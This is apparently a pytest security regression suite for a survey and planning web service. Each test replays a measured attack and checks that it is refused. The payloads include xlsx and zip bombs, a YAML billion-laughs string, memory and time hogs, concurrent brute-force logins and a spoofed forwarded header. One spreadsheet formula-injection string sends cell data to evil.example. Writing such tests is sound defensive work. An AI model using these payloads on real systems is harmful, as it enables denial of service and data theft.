"""The service under hostile input and load (issue 15): one test per attack, each named after it.

Every row of ``ATTACKS`` is a hole that was measured on the service before this change (the
figure in its comment), with the answer it gets now. The limits are set small here
(:func:`settings`) so each attack is refused in well under a second; the same code paths
guard the defaults of ``aidc/data/web/limits.yaml``.
"""

from __future__ import annotations

import io
import json
import os
import stat
import sys
import threading
import time
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path
from typing import Any

import cloudpickle
import pytest
from sqlalchemy import inspect, select

from aidc.web.settings import Settings

PASSWORD = "correct horse battery"  # the seeded accounts' password (conftest.PASSWORD)
World = Any  # conftest.World: the seeded app, its round, tokens and institutions

# Runs execute in worker processes; this module's run functions travel by value (see conftest).
cloudpickle.register_pickle_by_value(sys.modules[__name__])

MAX_ROWS = 50
MAX_COLUMNS = 20
RUN_MEMORY_BYTES = 256 * 1024 * 1024


@pytest.fixture
def settings(database_url: str) -> Settings:
    """The tests' settings (see conftest) with small limits, so each attack is refused quickly."""
    return Settings(
        database_url=database_url,
        max_upload_bytes=256 * 1024,
        max_body_bytes=512 * 1024,
        upload_max_unzipped_bytes=8 * 1024 * 1024,
        upload_max_rows=MAX_ROWS,
        upload_max_columns=MAX_COLUMNS,
        upload_time_s=20.0,
        login_max_failures=3,
        login_max_failures_per_account=5,
        login_window_s=60.0,
        secret_key="test-secret-not-for-production",
        argon2_time_cost=1,
        argon2_memory_kib=1024,
        run_time_s=20.0,
        run_memory_bytes=RUN_MEMORY_BYTES,
        max_queued_runs_per_user=2,
        max_queued_runs=3,
    )


def _rss_mib() -> float:
    with open("/proc/self/status", encoding="ascii") as fh:
        line = next(x for x in fh if x.startswith("VmRSS:"))
    return int(line.split()[1]) / 1024


def _upload(w: World, name: str, content: bytes, lang: str = "en"):
    return w.client().post(
        f"/api/rounds/{w.round_id}/submission/upload",
        headers=w.bearer("institution") | {"Accept-Language": lang},
        files={"file": (name, content, "application/octet-stream")},
    )


def _workbook(fill: Callable[[object], None], write_only: bool = False) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook(write_only=write_only)
    ws = wb.create_sheet("Respondents") if write_only else wb.active
    if not write_only:
        ws.title = "Respondents"
    fill(ws)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


# --- the attacks -------------------------------------------------------------------------------


def xlsx_declaring_the_maximum_dimension(w: World) -> None:
    """Before: 16 KB workbook with one cell at XFD1048576 — no answer in 60 s, server past 4 GiB (SIGKILL)."""

    def fill(ws):
        ws["A1"] = "Respondent ID"
        ws["XFD1048576"] = "x"

    content = _workbook(fill)
    assert len(content) < 16 * 1024
    rss0, t0 = _rss_mib(), time.perf_counter()
    r = _upload(w, "bomb.xlsx", content)
    assert r.status_code == 413, r.text
    assert f"more than {MAX_ROWS} rows" in r.json()["detail"]
    assert time.perf_counter() - t0 < 30  # before: no answer in 60 s
    assert _rss_mib() - rss0 < 100  # read in a worker process, not here
    assert (
        _upload(w, "bomb.xlsx", content, lang="ko").json()["detail"].startswith("'Respondents' 시트의 행이")
    )


def xlsx_with_more_real_rows_than_the_limit(w: World) -> None:
    """Before: 100 k real rows — 62 s of a stalled server, then 413 from the row check after parsing."""

    def fill(ws):
        ws.append(["Respondent ID", "Organisation"])
        for i in range(MAX_ROWS * 3):
            ws.append([f"R{i}", f"Org {i}"])

    r = _upload(w, "long.xlsx", _workbook(fill, write_only=True))
    assert r.status_code == 413, r.text
    assert f"more than {MAX_ROWS} rows" in r.json()["detail"]


def xlsx_with_more_columns_than_the_limit(w: World) -> None:
    """Before: a row as wide as the sheet was read cell by cell (16,384 columns per row)."""

    def fill(ws):
        ws.append([f"col {i}" for i in range(MAX_COLUMNS + 5)])

    r = _upload(w, "wide.xlsx", _workbook(fill, write_only=True))
    assert r.status_code == 413, r.text
    assert f"more than {MAX_COLUMNS} columns" in r.json()["detail"]


def zip_bomb_workbook(w: World) -> None:
    """Before: a 50 KB zip of a 50 MB sheet reached 2.9 GiB of server memory."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/worksheets/sheet1.xml", b" " * (6 * 1024 * 1024))
    t0 = time.perf_counter()
    r = _upload(w, "bomb.xlsx", buf.getvalue())
    assert r.status_code == 413, r.text
    assert "times its size" in r.json()["detail"]
    assert time.perf_counter() - t0 < 10


def damaged_workbook_message_leaks_no_server_path(w: World) -> None:
    """Before: the error message of a damaged upload named the server's temporary file."""
    r = _upload(w, "a.xlsx", b"PK\x03\x04garbage")
    assert r.status_code == 422
    assert "/tmp" not in r.text
    assert "aidc-web-" not in r.text
    assert "upload.xlsx" not in r.text


def server_answers_others_while_a_file_is_refused(w: World, live_server) -> None:
    """Before: the parse ran on the event loop of the (one) server process, so one upload stalled
    every other request; here a live uvicorn server answers /api/me while three bombs are read."""
    import httpx

    def fill(ws):
        ws["A1"] = "Respondent ID"
        for row in range(2, 2 * MAX_ROWS):
            ws.cell(row, 1, f"R{row}")

    content = _workbook(fill, write_only=False)

    def upload(_: int) -> int:
        with httpx.Client(base_url=live_server.url, timeout=60, headers=w.bearer("institution")) as c:
            url = f"/api/rounds/{w.round_id}/submission/upload"
            return c.post(url, files={"file": ("long.xlsx", content, "application/x")}).status_code

    with ThreadPoolExecutor(3) as pool, httpx.Client(base_url=live_server.url, timeout=60) as c:
        uploads = list(map(lambda i: pool.submit(upload, i), range(3)))
        t0 = time.perf_counter()
        assert c.get("/api/me", headers=w.bearer("planner")).status_code == 200
        me_s = time.perf_counter() - t0
        assert {f.result() for f in uploads} <= {413, 503}
    assert me_s < 5


def survey_row_beyond_the_national_gpu_fleet(w: World) -> None:
    """Before: 1e8 GPU-hours a year was accepted with a warning, 1e10 too; now past the country's
    fleet (260,000 GPUs all year, data/demand/bounds.yaml) it is an error and is not submitted."""
    answers = {
        "respondents": [{"tenant_class": "university", "support_programme": "rise"}],
        "gpu_direct": [{"gpu_h_per_y": 1e10, "start_year": 2028}],
    }
    c = w.client()
    url = f"/api/rounds/{w.round_id}/submission"
    r = c.put(url, headers=w.bearer("institution"), json={"answers": answers, "submit": True})
    assert r.status_code == 422
    assert any(p["column"] == "gpu_h_per_y" and "out of range" in p["message"] for p in r.json()["detail"])


def demand_bound_in_the_library(w: World) -> None:
    """The demand stage itself refuses such a need (a survey read outside the web, a YAML file)."""
    import pandas as pd

    from aidc.demand.estimate import BY_NEED_COLUMNS, check_bounds, need_bounds
    from aidc.errors import InputError

    max_gpus, max_gpu_h = need_bounds()
    assert max_gpus == 260_000
    assert max_gpu_h == 260_000 * 8760  # the whole fleet all year (hand calculation)
    row = dict.fromkeys(BY_NEED_COLUMNS, 0) | {"kind": "training", "respondent_id": "R1", "need_id": "N1"}
    check_bounds(pd.DataFrame([row | {"gpu_h_per_y": max_gpu_h, "peak_gpus": max_gpus}]))
    with pytest.raises(InputError, match="R1.N1"):
        check_bounds(pd.DataFrame([row | {"gpu_h_per_y": 1.01 * max_gpu_h, "peak_gpus": 1}]))


def memory_hog(scenario, on_stage):
    """A run that wants 8 GiB, like the planner's run of a 1e8 GPU-hour answer did."""
    on_stage("survey", "start")
    blocks = [bytearray(64 * 1024 * 1024) for _ in range(128)]
    return type("R", (), {"survey": type("S", (), {"summary": {"n_blocks": len(blocks)}})()})()


def slow_run(scenario, on_stage):
    on_stage("survey", "start")
    time.sleep(60)
    return type("R", (), {})()


def _wait_run(w: World, run_id: int, until: tuple[str, ...] = ("done", "failed", "cancelled")) -> dict:
    c = w.client()
    for _ in range(600):
        run = c.get(f"/api/runs/{run_id}", headers=w.bearer("planner")).json()
        if run["status"] in until:
            return run
        time.sleep(0.05)
    raise AssertionError(f"run {run_id} stayed {run['status']}")


def _start_run(w: World, who: str = "planner"):
    return w.client().post(f"/api/scenarios/{w.tokens['scenario']}/runs", headers=w.bearer(who))


def run_past_its_memory_limit(w: World) -> None:
    """Before: the run grew the server process past 8 GiB; now its own process stops at the limit."""
    w.app.state.worker.run_function = memory_hog
    rss0 = _rss_mib()
    run = _wait_run(w, _start_run(w).json()["id"])
    assert run["status"] == "failed"
    assert f"{RUN_MEMORY_BYTES // 2**20} MiB" in run["error"]
    assert _rss_mib() - rss0 < 100
    assert w.client().get("/api/runs", headers=w.bearer("planner")).status_code == 200


def run_past_its_time_limit(w: World) -> None:
    """Before: no time limit; a run could hold the only worker for ever."""
    w.app.state.worker.run_function = slow_run
    w.app.state.worker.settings = replace(w.app.state.worker.settings, run_time_s=1.0)
    t0 = time.perf_counter()
    run = _wait_run(w, _start_run(w).json()["id"])
    assert run["status"] == "failed"
    assert "longer than 1 s" in run["error"]
    assert time.perf_counter() - t0 < 10


def queued_runs_have_quotas_a_queue_position_and_cancel(w: World) -> None:
    """Before: 100 queued runs were accepted, with no quota, no position and no cancel."""
    w.app.state.worker.run_function = slow_run
    first = _start_run(w).json()
    _wait_run(w, first["id"], until=("running",))
    second = _start_run(w).json()
    assert second["status"] == "queued"
    assert second["queue_position"] == 1
    third = _start_run(w)  # the planner's third active run
    assert third.status_code == 429
    assert "Retry-After" in third.headers
    assert _start_run(w, "admin").status_code == 202  # the third run in the whole queue
    busy = _start_run(w, "admin")
    assert busy.status_code == 503
    assert "Retry-After" in busy.headers
    c, h = w.client(), w.bearer("planner")
    assert c.post(f"/api/runs/{second['id']}/cancel", headers=h).json()["status"] == "cancelled"
    assert c.post(f"/api/runs/{first['id']}/cancel", headers=h).status_code == 200
    assert _wait_run(w, first["id"])["status"] == "cancelled"
    assert c.post(f"/api/runs/{first['id']}/cancel", headers=h).status_code == 409


def logout_leaves_the_cookie_valid(w: World, sign_in) -> None:
    """Before: a session cookie copied before logout still worked after it."""
    c = w.client()
    csrf = sign_in(c, "planner@example.org")
    stolen = dict(c.cookies)
    assert c.post("/logout", data={"csrf_token": csrf}, follow_redirects=False).status_code == 303
    thief = w.client()
    thief.cookies.update(stolen)
    assert thief.get("/api/me").status_code == 401


def bearer_tokens_cannot_be_revoked(w: World) -> None:
    """Before: a bearer token worked for its whole 8 h whatever happened; now it is listed, hashed,
    revocable by its owner and by an admin, and ends with a password change."""
    from aidc.web.db import ApiToken

    c = w.client()
    token = c.post("/api/auth/token", json={"email": "planner@example.org", "password": PASSWORD}).json()
    h = {"Authorization": f"Bearer {token['access_token']}"}
    mine = c.get("/api/tokens", headers=h).json()
    assert all(t["user_id"] == mine[0]["user_id"] for t in mine)
    assert len(mine) >= 2
    with w.app.state.sessions() as s:
        assert token["access_token"] not in s.scalars(select(ApiToken.token_sha256)).all()
    newest = max(t["id"] for t in mine)
    assert c.delete(f"/api/tokens/{newest}", headers=w.bearer("institution")).status_code == 404
    assert c.delete(f"/api/tokens/{newest}", headers=w.bearer("admin")).status_code == 204
    assert c.get("/api/me", headers=h).status_code == 401
    r = c.post(
        "/api/me/password",
        headers=w.bearer("institution"),
        json={"current_password": PASSWORD, "new_password": "a new long password"},
    )
    assert r.status_code == 204
    assert c.get("/api/me", headers=w.bearer("institution")).status_code == 401


def concurrent_logins_bypass_the_rate_limit(w: World) -> None:
    """Before: 20 concurrent wrong passwords all got 401 (failures were counted after hashing)."""
    c = w.client()

    def attempt(_: int) -> int:
        return c.post(
            "/api/auth/token", json={"email": "admin@example.org", "password": "wrong guess"}
        ).status_code

    with ThreadPoolExecutor(20) as pool:
        codes = list(pool.map(attempt, range(20)))
    assert codes.count(401) == 3  # login_max_failures for one (address, e-mail)
    assert codes.count(429) == 17


def concurrent_password_hashes_are_bounded(w: World) -> None:
    """Before: each concurrent sign-in held 64 MiB of Argon2 memory (1.65 GB RSS in a burst)."""
    passwords = w.app.state.passwords
    hasher = passwords._hasher
    active, peak, lock = [0], [0], threading.Lock()

    class Counting:
        def verify(self, hash_: str, password: str) -> bool:
            with lock:
                active[0] += 1
                peak[0] = max(peak[0], active[0])
            time.sleep(0.05)
            try:
                return hasher.verify(hash_, password)
            finally:
                with lock:
                    active[0] -= 1

    from aidc.web.security import LoginLimiter, Slots

    passwords._hasher = Counting()
    passwords.slots = Slots(2, 0.2, "password checks")
    w.app.state.limiter = LoginLimiter(100, 60.0)  # this attack is about memory, not guessing
    c = w.client()
    emails = [f"someone{i}@example.org" for i in range(16)]  # distinct pairs: the limiter lets them in
    with ThreadPoolExecutor(16) as pool:
        codes = list(
            pool.map(lambda e: c.post("/api/auth/token", json={"email": e, "password": "x" * 12}), emails)
        )
    assert peak[0] <= 2
    assert {r.status_code for r in codes} <= {401, 503}
    assert all(r.headers["Retry-After"] for r in codes if r.status_code == 503)


def forwarded_header_from_anyone(w: World) -> None:
    """Before: the limiter keyed on the peer, so behind a proxy everyone shared one bucket; a header
    is now believed only from a configured proxy, read from the right."""
    from starlette.requests import Request

    from aidc.web.security import client_address

    def request(peer: str, forwarded: str) -> Request:
        app = type(
            "A",
            (),
            {
                "state": type(
                    "S", (), {"settings": replace(w.app.state.settings, trusted_proxies=("10.0.0.0/8",))}
                )()
            },
        )()
        scope = {
            "type": "http",
            "client": (peer, 1234),
            "headers": [(b"x-forwarded-for", forwarded.encode())],
            "app": app,
        }
        return Request(scope)

    assert client_address(request("10.0.0.5", "6.6.6.6, 203.0.113.7")) == "203.0.113.7"
    assert client_address(request("10.0.0.5", "203.0.113.7, 10.0.0.9")) == "203.0.113.7"
    assert client_address(request("198.51.100.1", "203.0.113.7")) == "198.51.100.1"  # not a proxy


def secret_readable_in_the_database(w: World, tmp_path: Path) -> None:
    """Before: the SQLite file was 0644 and held app_secret, so any reader could forge an admin cookie."""
    from aidc.errors import InputError
    from aidc.web import db
    from aidc.web.main import create_app

    assert "app_secret" not in inspect(w.app.state.engine).get_table_names()
    data_dir = tmp_path / "data"
    app = create_app(
        settings=Settings(
            database_url=f"sqlite:///{data_dir / 'web.sqlite3'}", secret_file=data_dir / "secret.key"
        )
    )
    app.state.worker.shutdown()
    app.state.engine.dispose()
    for path, mode in (
        (data_dir, 0o700),
        (data_dir / "web.sqlite3", 0o600),
        (data_dir / "secret.key", 0o600),
    ):
        assert stat.S_IMODE(path.stat().st_mode) == mode, path
    os.chmod(data_dir / "secret.key", 0o644)
    with pytest.raises(InputError, match="owner-only"):
        db.secret_key(data_dir / "secret.key")


def huge_body_before_authentication(w: World) -> None:
    """Before: a 1 GB body was spooled to disk before anyone checked who sent it."""
    c = w.client()
    r = c.post("/api/auth/token", content=b"x" * (600 * 1024), headers={"Content-Type": "application/json"})
    assert r.status_code == 413

    def chunks():
        for _ in range(700):
            yield b"x" * 1024

    r = c.post("/api/auth/token", content=chunks(), headers={"Content-Type": "application/json"})
    assert r.status_code == 413


def formula_in_a_survey_answer_reaches_the_workbook(w: World) -> None:
    """Before: '=HYPERLINK(...)' typed in a survey answer became a live formula in report.xlsx."""
    from openpyxl import Workbook

    from aidc.report.xlsx import _cell

    ws = Workbook(write_only=True).create_sheet()
    for text in ('=HYPERLINK("http://evil.example?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"):
        cell = _cell(ws, text)
        assert cell.data_type == "s"
        assert cell.quotePrefix  # shown as typed, never evaluated
        assert cell.value == text
    assert not _cell(ws, "Jeonbuk University").quotePrefix
    assert _cell(ws, -3).value == -3  # numbers stay numbers


BILLION_LAUGHS = "\n".join(
    ["a: &a [x, x, x, x, x, x, x, x, x]"]
    + [
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]"
        for i in range(8)
    ]
)


def yaml_scenario_with_nested_aliases(w: World, sign_in, csrf_of) -> None:
    """Before: a 393-byte scenario with nested aliases took 50 s and 2.6 GiB."""
    from aidc.errors import InputError
    from aidc.scenario import parse_scenario

    assert len(BILLION_LAUGHS) < 400
    t0 = time.perf_counter()
    with pytest.raises(InputError, match="aliases"):
        parse_scenario(BILLION_LAUGHS)
    c = w.client()
    sign_in(c, "planner@example.org")
    sid = w.tokens["scenario"]
    r = c.post(
        f"/scenarios/{sid}", data={"csrf_token": csrf_of(c, f"/scenarios/{sid}"), "yaml_text": BILLION_LAUGHS}
    )
    assert r.status_code == 422
    assert "aliases" in r.text
    assert time.perf_counter() - t0 < 5
    with pytest.raises(InputError, match="too large"):
        parse_scenario("#" * (2 * 1024 * 1024))


def pool_exhaustion_answers_500(w: World) -> None:
    """Before: 200 concurrent drafts exhausted the connection pool and got 500; now 503 + Retry-After."""
    from sqlalchemy.exc import TimeoutError as PoolTimeout

    engine = w.app.state.engine
    engine.pool._timeout = 0.2  # how long a request waits for a connection (busy_wait_s)
    held = []

    def take_every_connection() -> None:
        while True:
            held.append(engine.pool.connect())

    with pytest.raises(PoolTimeout):
        take_every_connection()
    try:
        r = w.client().get("/api/me", headers=w.bearer("planner"))
        assert r.status_code == 503
        assert "Retry-After" in r.headers
    finally:
        for conn in held:
            conn.close()


def planner_accepts_an_institution_invitation(w: World) -> None:
    """Before: a planner accepted an institution's invitation, joined it and turned its submitted
    answer back into a draft."""
    c, hp = w.client(), w.bearer("planner")
    inv = c.post(
        f"/api/rounds/{w.round_id}/invitations",
        headers=hp,
        json={"institution": "Jeonbuk National University", "email": "planner-alias@example.org"},
    ).json()
    token = inv["url"].rsplit("/", 1)[1]
    assert (
        c.post(f"/api/invitations/{token}/accept", headers=hp, json={"password": PASSWORD}).status_code == 403
    )
    # Signed out, the holder of the link still cannot join an institution that has its account.
    assert c.post(f"/api/invitations/{token}/accept", json={"password": PASSWORD}).status_code == 409


def nan_and_infinity_in_bodies(w: World, valid_answers) -> None:
    """Before: a draft of NaN or 1e309 saved (read back as null), Infinity was stored in a scenario,
    and a NaN password answered 500."""
    c = w.client()
    url = f"/api/rounds/{w.round_id}/submission"
    for bad in ("NaN", "1e309", "-Infinity"):
        body = json.dumps({"answers": valid_answers}).replace('"deadline_days": 3', f'"deadline_days": {bad}')
        r = c.put(url, headers=w.bearer("institution") | {"Content-Type": "application/json"}, content=body)
        assert r.status_code == 422, (bad, r.text)
        json.loads(r.text)  # a finite, valid JSON answer that does not repeat the input
        assert "NaN" not in r.text
        assert "Infinity" not in r.text
    assert c.get(url, headers=w.bearer("institution")).json()["status"] == "none"
    scenario = c.get(f"/api/scenarios/{w.tokens['scenario']}", headers=w.bearer("planner")).json()["scenario"]
    body = json.dumps({"name": "inf", "scenario": scenario}).replace(
        f'"it_capacity_kw": {json.dumps(scenario["power"]["it_capacity_kw"])}',
        '"it_capacity_kw": Infinity',
        1,
    )
    r = c.post(
        "/api/scenarios", headers=w.bearer("planner") | {"Content-Type": "application/json"}, content=body
    )
    assert r.status_code == 422
    assert "Infinity" not in r.text
    r = c.post(
        "/api/auth/token",
        content='{"email": "a@b.c", "password": NaN}',
        headers={"Content-Type": "application/json"},
    )
    assert r.status_code == 422


def no_hsts_csp_or_origin_check(w: World) -> None:
    """Before: no HSTS, no CSP, and an unsafe request from another site was only stopped by CSRF."""
    c = w.client()
    page = c.get("/login")
    assert "default-src 'self'" in page.headers["content-security-policy"]
    assert "Strict-Transport-Security" not in page.headers  # only with https_only
    w.app.state.settings = replace(w.app.state.settings, https_only=True)
    assert c.get("/login").headers["Strict-Transport-Security"].startswith("max-age=")
    r = c.post(
        f"/api/rounds/{w.round_id}/close",
        headers=w.bearer("planner") | {"Origin": "https://evil.example"},
    )
    assert r.status_code == 403
    assert (
        c.get("/api/me", headers=w.bearer("planner") | {"Origin": "https://evil.example"}).status_code == 200
    )


def swagger_ui_from_a_cdn(w: World) -> None:
    """Before: /docs loaded Swagger UI from cdn.jsdelivr.net, unreachable on an offline network."""
    c = w.client()
    page = c.get("/docs")
    assert page.status_code == 200
    assert "http" not in page.text
    assert "<script>" not in page.text  # own files only, no inline script
    for asset in (
        "/assets/swagger/swagger-ui-bundle.js",
        "/assets/swagger/swagger-ui.css",
        "/static/swagger-init.js",
    ):
        assert c.get(asset).status_code == 200, asset


ATTACKS: dict[str, Callable[..., None]] = {
    f.__name__: f
    for f in (
        xlsx_declaring_the_maximum_dimension,
        xlsx_with_more_real_rows_than_the_limit,
        xlsx_with_more_columns_than_the_limit,
        zip_bomb_workbook,
        damaged_workbook_message_leaks_no_server_path,
        server_answers_others_while_a_file_is_refused,
        survey_row_beyond_the_national_gpu_fleet,
        demand_bound_in_the_library,
        run_past_its_memory_limit,
        run_past_its_time_limit,
        queued_runs_have_quotas_a_queue_position_and_cancel,
        logout_leaves_the_cookie_valid,
        bearer_tokens_cannot_be_revoked,
        concurrent_logins_bypass_the_rate_limit,
        concurrent_password_hashes_are_bounded,
        forwarded_header_from_anyone,
        secret_readable_in_the_database,
        huge_body_before_authentication,
        formula_in_a_survey_answer_reaches_the_workbook,
        yaml_scenario_with_nested_aliases,
        pool_exhaustion_answers_500,
        planner_accepts_an_institution_invitation,
        nan_and_infinity_in_bodies,
        no_hsts_csp_or_origin_check,
        swagger_ui_from_a_cdn,
    )
}


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_attack(attack: str, request: pytest.FixtureRequest) -> None:
    """Run one attack against a fresh seeded server; its docstring says what it did before."""
    fn = ATTACKS[attack]
    import inspect as pyinspect

    params = list(pyinspect.signature(fn).parameters)
    world = request.getfixturevalue("planner_world")
    fn(world, *[request.getfixturevalue(p) for p in params[1:]])
